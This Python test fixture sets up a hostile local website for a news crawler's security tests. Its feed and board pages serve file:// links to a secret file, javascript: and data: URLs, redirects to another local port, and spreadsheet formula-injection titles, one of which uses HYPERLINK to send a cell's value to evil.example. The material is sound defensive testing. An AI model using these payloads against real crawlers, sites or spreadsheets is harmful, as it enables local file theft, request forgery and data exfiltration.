"""A hostile local site for the security tests (127.0.0.1, free ports).

`HostileSite` serves, on topic (every title mentions 자치경찰위원회):

  /feed.xml      an RSS feed whose items link to file:///SECRET, file://localhost/SECRET,
                 javascript:, data:, ftp:, a direct link to the other local port, redirects
                 to file: and to the other port, a meta refresh to file:, a page with a
                 hostile rel=canonical (javascript://same-host/...), and pages whose titles
                 and feed <source> outlet names are spreadsheet formulas (=, +, -, @, tab,
                 CR, full-width ＝), plus one plain good article
  /listing.xml   the same kind of links for a `fetch_pages = false` source (stored from the feed)
  /board.html    a board list with javascript:/file:/data: hrefs, a good one, and a javascript: next page

`InternalService` is "another service on the crawling host" (another port): it counts its
hits and serves SECRET_PORT_MARKER. The secret file holds SECRET_FILE_MARKER.
"""
import threading
from pathlib import Path
from xml.sax.saxutils import escape

from crawler.sample_site import LocalServer, QuietHandler

TOPIC = "자치경찰위원회"
SECRET_FILE_MARKER = "SECRET-FILE-7f3a 자치경찰위원회 내부 문서"
SECRET_PORT_MARKER = "SECRET-PORT-91c2 자치경찰위원회 내부 서비스"
BODY = ("{title}. 시도 자치경찰위원회는 주민 안전을 위한 치안 정책을 심의하고 자치경찰 사무를 지휘한다. "
        "위원회는 이번 결정으로 생활안전과 교통 분야 협력이 강화될 것이라고 밝혔다.")
# (path, title, outlet in the feed's <source>): titles and outlets that are spreadsheet formulas
FORMULA_ARTICLES = [
    ("f1.html", f'=HYPERLINK("http://evil.example/?x="&A1,"{TOPIC} 클릭")', "=1+2"),
    ("f2.html", f"+SUM(1,2) {TOPIC} 예산", "+매체"),
    ("f3.html", f"-2+3 {TOPIC} 인사", "-매체"),
    ("f4.html", f"@SUM(A1:A2) {TOPIC} 회의", "@매체"),
    ("f5.html", f"\t=1+1 {TOPIC} 탭", "\t=탭매체"),
    ("f6.html", f"＝HYPERLINK(\"http://evil.example\") {TOPIC} 전각", "＝전각매체"),
]
GOOD_ARTICLE = ("good.html", f"{TOPIC} 정례회의 개최", "좋은신문")
RFC822 = "Mon, 02 Mar 2026 01:00:00 +0000"


def rss(items):
    """items: (title, link, outlet or None) -> RSS 2.0 bytes (on-topic descriptions)."""
    body = "".join(
        f"<item><title>{escape(t)}</title><link>{escape(l)}</link><description>{escape(TOPIC)} 요약</description>"
        + (f'<source url="http://127.0.0.1/">{escape(o)}</source>' if o else "")
        + f"<pubDate>{RFC822}</pubDate></item>" for t, l, o in items)
    return (f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>hostile</title>'
            f"<link>http://127.0.0.1/</link><description>hostile</description>{body}</channel></rss>").encode("utf-8")


def page(title, head=""):
    return (f'<!DOCTYPE html><html lang="ko"><head><meta charset="utf-8"><title>{escape(title)}</title>{head}</head>'
            f'<body><article><h1>{escape(title)}</h1><p class="date">입력 2026.03.02 10:00</p>'
            f"<p>{escape(BODY.format(title=title))}</p></article></body></html>").encode("utf-8")


class InternalService(LocalServer):
    """Another local service on the crawling host; must never be reached by the crawler."""

    def __init__(self):
        class Handler(QuietHandler):
            def do_GET(self):
                with self.server.lock:
                    self.server.hits.append(self.path)
                self.send(200, page(SECRET_PORT_MARKER))
        super().__init__(Handler)
        self.server.hits, self.server.lock = [], threading.Lock()

    @property
    def hits(self):
        with self.server.lock:
            return list(self.server.hits)


class HostileHandler(QuietHandler):
    def base(self):
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def bad_links(self, tag):
        """(title, link) of every link the crawler must neither fetch nor store; `tag` keeps
        each source's links distinct (a run fetches a URL once, for the first source listing it)."""
        secret, other = self.server.secret_file, self.server.other_url.rstrip("/")
        return [
            (f"{TOPIC} 파일 링크", f"file://{secret}"),
            (f"{TOPIC} localhost 파일 링크", f"file://localhost{secret}"),
            (f"{TOPIC} 자바스크립트", "javascript:alert(document.cookie)//"),
            (f"{TOPIC} 자바스크립트 호스트", f"javascript://127.0.0.1/%0aalert(1)//{TOPIC}"),
            (f"{TOPIC} 데이터", f"data:text/html;charset=utf-8,<title>{TOPIC} 데이터</title><p>{TOPIC} data 본문</p>"),
            (f"{TOPIC} FTP", f"ftp://127.0.0.1:{self.server.server_address[1]}/f1.html"),
            (f"{TOPIC} 다른 포트", f"{other}/direct.html?src={tag}"),
        ]

    def do_GET(self):
        path = self.path.split("?")[0]
        secret, other = self.server.secret_file, self.server.other_url.rstrip("/")
        if path == "/robots.txt":
            return self.send(404, b"", "text/plain")
        if path == "/feed.xml":
            items = [(t, l, None) for t, l in self.bad_links("feed")]
            items += [(f"{TOPIC} 파일로 이동", f"{self.base()}/redirect/file", None),
                      (f"{TOPIC} 다른 포트로 이동", f"{self.base()}/redirect/port", None),
                      (f"{TOPIC} 새로고침", f"{self.base()}/refresh.html", None),
                      (f"{TOPIC} 정규 주소", f"{self.base()}/canonical.html", None)]
            items += [(t, f"{self.base()}/{p}", o) for p, t, o in FORMULA_ARTICLES + [GOOD_ARTICLE]]
            return self.send(200, rss(items), "application/rss+xml")
        if path == "/listing.xml":
            items = [(t, l, "=목록매체") for t, l in self.bad_links("listing")]
            items.append((f"=1+1 {TOPIC} 목록 기사", f"{self.base()}/listed.html", "@목록매체"))
            return self.send(200, rss(items), "application/rss+xml")
        if path == "/board.html":
            links = "".join(f'<li><a class="t" href="{escape(l, {chr(34): "&quot;"})}">{escape(t)}</a></li>'
                            for t, l in self.bad_links("board"))
            links += f'<li><a class="t" href="/board-item.html">=2+2 {TOPIC} 게시글</a></li>'
            html = (f'<html><body><ul class="list">{links}</ul>'
                    f'<div class="pages"><a class="next" href="javascript:goPage(2)">다음</a></div></body></html>')
            return self.send(200, html.encode("utf-8"))
        if path == "/redirect/file":
            return self.send(302, b"", "text/plain", {"Location": f"file://{secret}"})
        if path == "/redirect/port":
            return self.send(302, b"", "text/plain", {"Location": f"{other}/redirected.html"})
        if path == "/refresh.html":
            return self.send(200, page(f"{TOPIC} 새로고침", f'<meta http-equiv="refresh" content="0;url=file://{secret}">'))
        if path == "/canonical.html":
            port = self.server.server_address[1]
            head = f'<link rel="canonical" href="javascript://127.0.0.1:{port}/%0aalert(document.domain)//x">'
            return self.send(200, page(f"{TOPIC} 정규 주소", head))
        articles = {f"/{p}": t for p, t, _ in FORMULA_ARTICLES + [GOOD_ARTICLE]}
        articles.update({"/board-item.html": f"=2+2 {TOPIC} 게시글"})
        if path in articles:
            return self.send(200, page(articles[path]))
        return self.send(404, b"not found", "text/plain")


class HostileSite(LocalServer):
    def __init__(self, secret_file, other_url):
        super().__init__(HostileHandler)
        self.server.secret_file, self.server.other_url = str(Path(secret_file).resolve()), other_url


def hostile_config(path, base):
    """A sources file with the three hostile sources (feed, fetch_pages = false feed, board)."""
    text = f'''query_terms = ["{TOPIC}"]

[crawl]
fast = true
timeout = 5
retries = 0
max_pages = 2
log_level = "INFO"

[[source]]
name = "악성 피드"
kind = "news"
type = "feed"
url = "{base}feed.xml"

[[source]]
name = "악성 목록 피드"
kind = "news"
type = "feed"
url = "{base}listing.xml"
fetch_pages = false

[[source]]
name = "악성 게시판"
kind = "civic"
type = "board"
url = "{base}board.html"
filter = false
[source.selectors]
item = "ul.list li"
link = "a.t"
title = "a.t"
next_page = "div.pages a.next"
'''
    Path(path).write_text(text, encoding="utf-8")
    return Path(path)
